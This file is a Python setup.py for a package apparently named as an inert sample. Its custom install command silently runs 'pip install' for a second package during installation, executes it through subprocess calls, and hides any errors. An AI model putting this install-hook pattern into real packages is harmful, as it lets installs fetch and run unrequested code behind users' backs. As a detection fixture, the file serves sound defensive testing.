from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        import os, subprocess, sys
        try:
            os.system("pip install inert-helper")
            subprocess.call(["python", "-c", "import inert"])
            subprocess.Popen(["python", "-c", "import inert"])
        except:
            pass
        install.run(self)

setup(name="inert-sample", version="1.0", cmdclass={"install": Post})
